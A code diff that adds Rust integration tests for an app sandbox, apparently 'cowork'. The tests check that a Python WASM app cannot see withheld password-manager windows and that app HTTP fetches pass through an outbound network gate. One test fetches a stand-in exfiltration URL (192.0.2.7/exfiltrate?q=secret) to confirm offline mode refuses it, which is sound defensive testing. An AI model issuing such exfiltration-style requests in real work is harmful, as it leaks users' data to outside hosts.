@@ -195,6 +195,31 @@ fn build_example(dir: &Path, name: &str, world: &str) -> Option<PathBuf> {
     Some(package)
 }
 
+/// Builds the bundled Python example (assets/sdk/examples/NAME/app.py) with
+/// componentize-py into a package folder; `stub_wasi` as the guide says.
+fn build_python_example(dir: &Path, name: &str, stub_wasi: bool) -> Option<PathBuf> {
+    let toolchain = std::env::var_os("COWORK_TEST_COMPONENTIZE_PY").map(PathBuf::from);
+    if !require(toolchain.as_ref().is_some_and(|t| t.is_file()), "componentize-py (scripts/test installs it)") {
+        return None;
+    }
+    let example = super::support::repo_dir().join("assets/sdk/examples").join(name);
+    let package = dir.join(format!("{name}-package{}", if stub_wasi { "" } else { "-wasi" }));
+    std::fs::create_dir_all(&package).unwrap();
+    std::fs::copy(example.join("cowork-app.toml"), package.join("cowork-app.toml")).unwrap();
+    // Built from a copy: Python leaves its caches next to the source.
+    let source = dir.join(format!("{name}-source"));
+    std::fs::create_dir_all(&source).unwrap();
+    std::fs::copy(example.join("app.py"), source.join("app.py")).unwrap();
+    let mut build = std::process::Command::new(toolchain.unwrap());
+    build.current_dir(&source).arg("-d").arg(super::support::repo_dir().join("assets/sdk/wit")).args(["-w", "app", "componentize"]);
+    if stub_wasi {
+        build.arg("--stub-wasi");
+    }
+    let output = build.arg("app").arg("-o").arg(package.join("app.wasm")).output().unwrap();
+    assert!(output.status.success(), "componentize-py failed: {}", String::from_utf8_lossy(&output.stderr));
+    Some(package)
+}
+
 fn session(conn: &rusqlite::Connection, id: i64, app: &str, title: &str, start: i64, end: Option<i64>) {
     let session = cowork::events::ActivitySession { session_id: id, app: app.into(), title: title.into(), window_id: id as u32, started_at_millis: start, ended_at_millis: end, ..Default::default() };
     cowork::store::upsert_session(conn, &session).unwrap();
@@ -471,4 +496,111 @@ fn an_apps_completion_follows_the_router_and_cloud_consent() {
     assert!(refused.contains("cannot ask for cloud consent"), "{refused}");
     assert_eq!(server.heads.lock().len(), 1);
     workers.shutdown(std::time::Duration::from_secs(5));
+}
+
+/// The Python example (window log), built from source with componentize-py:
+/// built as the guide says it installs and lists today's windows through the
+/// privacy rules, filters by app from its own storage; built with CPython's
+/// WASI imports it is refused with a message that says what to do.
+#[test]
+fn a_python_app_lists_todays_windows_and_one_that_needs_wasi_is_refused() {
+    use cowork::apps::AppsCommand;
+    let dir = temp_dir();
+    let Some(package) = build_python_example(dir.path(), "window-log", true) else { return };
+    let with_wasi = build_python_example(dir.path(), "window-log", false).unwrap();
+    let conn = cowork::store::open_writer(&dir.path().join("cowork.db")).unwrap();
+    let now = cowork::ids::now_millis();
+    let day = cowork::ids::local_day_start_millis(now).max(now - 3 * 3_600_000);
+    session(&conn, 1, "Code", "main.rs — invoice parser", day + 60_000, Some(day + 61 * 60_000));
+    session(&conn, 2, "firefox", "Invoice 2291 - Thunderbird web", day + 62 * 60_000, Some(day + 72 * 60_000));
+    session(&conn, 3, "KeePassXC", "invoice vault — bank passwords", day + 73 * 60_000, Some(day + 80 * 60_000));
+    session(&conn, 4, "Code", "tests.rs — invoice parser", day + 81 * 60_000, Some(day + 86 * 60_000));
+
+    let (mut worker, _) = apps_worker(dir.path(), "unused");
+    let (reply, refused) = crossbeam_channel::bounded(1);
+    worker.handle(AppsCommand::Install { path: with_wasi.clone(), granted: vec![], reply: Some(reply) });
+    let refused = refused.recv().unwrap().unwrap_err();
+    assert!(refused.contains("wasi:") && refused.contains("cannot run") && refused.contains("--stub-wasi"), "{refused}");
+    assert!(worker.view().installed.is_empty());
+
+    let disclosure = cowork::apps::Package::read(&package).unwrap().disclose().unwrap();
+    assert_eq!(disclosure.imports, ["cowork:app/context@0.1.0", "cowork:app/data@0.1.0", "cowork:app/user@0.1.0"], "stubbed WASI is not imported");
+    let (reply, installed) = crossbeam_channel::bounded(1);
+    worker.handle(AppsCommand::Install { path: package, granted: vec![], reply: Some(reply) });
+    assert_eq!(installed.recv().unwrap().unwrap().app_id, "window-log");
+    worker.handle(AppsCommand::Open { app_id: "window-log".into() });
+    let (view, error) = open_view(&worker, "window-log");
+    assert_eq!(error, None, "{view}");
+    eprintln!("Python window log: {} ms, {} MiB", worker.view().open[0].millis, worker.view().open[0].memory_bytes >> 20);
+    let table = view.as_array().unwrap().iter().find(|n| n["type"] == "table").unwrap().clone();
+    let rows: Vec<(String, String)> = table["rows"].as_array().unwrap().iter().map(|r| (r[1].as_str().unwrap().to_owned(), r[2].as_str().unwrap().to_owned())).collect();
+    assert_eq!(rows[0], ("Code".to_owned(), "tests.rs — invoice parser".to_owned()), "newest first: {rows:?}");
+    assert_eq!(rows.len(), 3, "{rows:?}");
+    assert!(!view.to_string().contains("KeePassXC") && !view.to_string().contains("vault"), "withheld windows are not there for a Python app either: {view}");
+    assert_eq!(view[0]["value"], "1 h 15 min", "{view}");
+    assert_eq!(view[1]["fields"][0]["options"], serde_json::json!(["All apps", "Code", "firefox"]));
+
+    let filter = r#"{"type":"submit","form":"filter","values":{"app":"firefox"}}"#;
+    worker.handle(AppsCommand::Act { app_id: "window-log".into(), message: filter.into() });
+    let (view, error) = open_view(&worker, "window-log");
+    assert_eq!(error, None, "{view}");
+    assert_eq!((view[0]["label"].as_str(), view[0]["value"].as_str()), (Some("Today in firefox"), Some("10 min")), "{view}");
+    assert_eq!(view[2]["rows"].as_array().unwrap().len(), 1);
+    let stored: String = conn.query_row("SELECT value FROM app_storage WHERE app_id = 'window-log' AND key = 'app'", [], |r| r.get(0)).unwrap();
+    assert_eq!(stored, "firefox");
+}
+
+/// `http.fetch` from a real app goes through cowork's network gate: a page on
+/// loopback comes back (the outbound log names the app's fetch), offline mode
+/// refuses any other host, and what an app gets is capped.
+#[test]
+fn an_apps_fetch_goes_through_the_network_gate() {
+    use std::io::{Read, Write};
+    const FETCHER: &str = r#"
+import { fetch } from 'cowork:app/http@0.1.0';
+export function render(state) {
+  if (state === '') return JSON.stringify({ type: 'text', text: 'nothing yet' });
+  try {
+    const page = fetch(state);
+    return JSON.stringify({ type: 'text', text: page, length: page.length });
+  } catch (err) {
+    return JSON.stringify({ type: 'text', text: 'refused: ' + (err.payload ?? String(err)) });
+  }
+}
+export function handle(action, state) { return action; }
+"#;
+    let dir = temp_dir();
+    let Some(wasm) = build_js(dir.path(), "fetcher", "app-with-http", FETCHER) else { return };
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut buf = [0u8; 2048];
+            let n = stream.read(&mut buf).unwrap_or(0);
+            let big = String::from_utf8_lossy(&buf[..n]).contains("GET /big");
+            let (kind, page) = if big { ("text/plain", "x".repeat(3 << 20)) } else { ("text/html", "<html><body><p>Build 812 is green.</p></body></html>".to_owned()) };
+            let _ = write!(stream, "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}", page.len());
+        }
+    });
+    let gate: &'static cowork::net::OutboundGate = Box::leak(Box::new(cowork::net::OutboundGate::new(true)));
+    let conn = cowork::store::open_writer(&dir.path().join("cowork.db")).unwrap();
+    let lane: Arc<dyn Lane> = Arc::new(cowork::apps::lane::HostLane::new(conn, None, None, gate));
+    let runtime = Runtime::new(None).unwrap();
+    let (component, _) = runtime.open(&wasm).unwrap();
+    let mut app = runtime.instantiate(&component, "fetcher", &[Capability::Http], lane).unwrap();
+
+    let page: serde_json::Value = serde_json::from_str(&app.render(&format!("http://127.0.0.1:{port}/status")).unwrap()).unwrap();
+    assert!(page["text"].as_str().unwrap().contains("Build 812 is green."), "{page}");
+    let big: serde_json::Value = serde_json::from_str(&app.render(&format!("http://127.0.0.1:{port}/big")).unwrap()).unwrap();
+    let length = big["length"].as_u64().unwrap();
+    assert!(length <= 1 << 20 && length > 1 << 19, "an app gets at most 1 MiB: {length}");
+    let refused: serde_json::Value = serde_json::from_str(&app.render("http://192.0.2.7/exfiltrate?q=secret").unwrap()).unwrap();
+    assert!(refused["text"].as_str().unwrap().starts_with("refused: offline mode"), "{refused}");
+
+    let log = gate.log();
+    assert_eq!(log.len(), 3, "{log:?}");
+    assert!(log.iter().all(|r| r.purpose == "an app's fetch"), "{log:?}");
+    assert_eq!((log[0].host.as_str(), log[0].refused.as_deref()), ("127.0.0.1", None));
+    assert!(log[0].bytes_in > 0);
+    assert_eq!((log[2].host.as_str(), log[2].refused.as_deref()), ("192.0.2.7", Some("offline mode")));
 }
